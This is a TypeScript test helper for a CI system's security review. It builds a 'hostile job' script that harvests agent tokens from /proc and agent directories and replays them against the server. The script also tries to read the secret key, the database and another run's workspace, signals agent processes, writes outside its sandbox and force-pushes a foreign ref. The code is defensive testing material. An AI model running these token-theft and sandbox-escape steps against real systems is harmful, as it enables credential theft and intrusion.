import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';

/** What a hostile job is told about the machine it runs on (the paths an attacker would guess). */
export interface HostileTargets {
  /** Directories where agents keep their tokens, logs and pid files. */
  agentDirs: string[];
  /** The server's secret key and database files. */
  secretKey: string;
  database: string;
  /** A file in another run's workspace, running at the same time. */
  victimFile: string;
  /** The pids of the agents, as seen from outside any sandbox. */
  agentPids: number[];
  /** Directories outside the job's workspace it tries to leave a file in (checked from outside: a sandbox's empty tmpfs takes writes that go nowhere). */
  writeDirs: string[];
  /** A ref of its project it has no business writing, pushed with its run token (null: not tried). */
  pushRef: string | null;
}

/**
 * A hostile job, in Node (present wherever an agent runs): it tries each attack of the security
 * review and prints `HOSTILE {attack: succeeded}` as JSON. Every attack that works is a finding.
 */
export function hostileScript(node: string, t: HostileTargets): string {
  const program = String.raw`
import { readFileSync, readdirSync, writeFileSync, statSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
const cfg = JSON.parse(process.argv[2]);
const own = process.env.DVC_STUDIO_TOKEN;
const url = process.env.KILN_URL;
const read = (f) => { try { return readFileSync(f); } catch { return null; } };
const list = (d) => { try { return readdirSync(d); } catch { return []; } };
const found = new Set();
const scan = (buf) => { for (const m of String(buf ?? '').matchAll(/kiln_[A-Za-z0-9_-]{16,}/g)) if (m[0] !== own) found.add(m[0]); };
for (const p of list('/proc')) if (/^\d+$/.test(p)) { scan(read('/proc/' + p + '/environ')); scan(read('/proc/' + p + '/cmdline')); }
const walk = (d, depth) => { for (const f of list(d)) { const full = path.join(d, f); let st; try { st = statSync(full); } catch { continue; } if (st.isDirectory()) { if (depth > 0) walk(full, depth - 1); } else if (st.size < 1e6) scan(read(full)); } };
for (const d of cfg.agentDirs) walk(d, 2);
const agent = (token, body) => fetch(url + '/api/agent', { method: 'POST', headers: { authorization: 'token ' + token, 'content-type': 'application/json' }, body: JSON.stringify(body) }).then((r) => r.ok, () => false);
const r = {};
r['read an agent token'] = false;
for (const t of found) if (await agent(t, { type: 'register', hostname: 'hostile', pid: 1, version: 'x', running: [] })) r['read an agent token'] = true;
r['read the secret key'] = read(cfg.secretKey) !== null;
r['read the database'] = read(cfg.database) !== null;
r["read another run's workspace"] = read(cfg.victimFile) !== null;
r["read the agent's /proc"] = cfg.agentPids.some((p) => read('/proc/' + p + '/environ') !== null);
let signalled = false;
for (const p of cfg.agentPids) { try { process.kill(p, 'SIGCONT'); signalled = true; } catch {} }
r['signal the agent'] = signalled;
r['claim jobs with its run token'] = await agent(own, { type: 'claim', agentId: '00000000-0000-4000-8000-000000000000', waitMs: 0 });
for (const d of cfg.writeDirs) { try { writeFileSync(path.join(d, 'kiln-hostile-was-here'), 'x'); } catch {} }
if (cfg.pushRef) {
  const remote = new URL(url); remote.username = 'kiln'; remote.password = own; remote.pathname = '/api/git/' + encodeURIComponent(process.env.KILN_PROJECT) + '/';
  // A new commit, so the push really asks to move the ref (an up-to-date push asks nothing).
  try { execFileSync('git', ['-c', 'user.name=h', '-c', 'user.email=h@h', 'commit', '--quiet', '--allow-empty', '-m', 'hostile'], { stdio: 'ignore' }); } catch {}
  try { execFileSync('git', ['push', '--quiet', '--force', remote.href, 'HEAD:' + cfg.pushRef], { stdio: 'ignore' }); r['push a ref not its own'] = true; } catch { r['push a ref not its own'] = false; }
}
console.log('HOSTILE ' + JSON.stringify(r));
`;
  return [
    `cat > /tmp/kiln-hostile.mjs <<'KILN_HOSTILE_EOF'`,
    program,
    'KILN_HOSTILE_EOF',
    `${shq(node)} /tmp/kiln-hostile.mjs ${shq(JSON.stringify(t))}`,
    '',
  ].join('\n');
}

const shq = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

/**
 * The attacks a hostile job's log reports, parsed from its `HOSTILE` line, and whether it left a
 * file outside its workspace (looked for from outside, then removed).
 */
export function hostileResults(log: string, t: HostileTargets): Record<string, boolean> | null {
  const line = log.split('\n').find((l) => l.startsWith('HOSTILE '));
  if (!line) return null;
  const r = JSON.parse(line.slice('HOSTILE '.length)) as Record<string, boolean>;
  r['write outside its workspace'] = false;
  for (const d of t.writeDirs) {
    const f = path.join(d, 'kiln-hostile-was-here');
    if (existsSync(f)) r['write outside its workspace'] = true;
    rmSync(f, { force: true });
  }
  return r;
}

/** Pids of the processes whose command line holds every one of `words` (agents, found from outside). */
export function pidsWith(...words: string[]): number[] {
  const out: number[] = [];
  for (const p of readdirSync('/proc')) {
    if (!/^\d+$/.test(p)) continue;
    let cmd = '';
    try {
      cmd = readFileSync(`/proc/${p}/cmdline`, 'utf8').split('\0').join(' ');
    } catch {
      continue;
    }
    if (words.every((w) => cmd.includes(w))) out.push(Number(p));
  }
  return out;
}

/** The job script of a run that another one attacks: it leaves a file in its workspace and waits. */
export const VICTIM_SCRIPT =
  'echo "victim data" > victim-marker; echo "VICTIM_AT=$PWD"; for i in $(seq 1 240); do sleep 0.5; done\n';
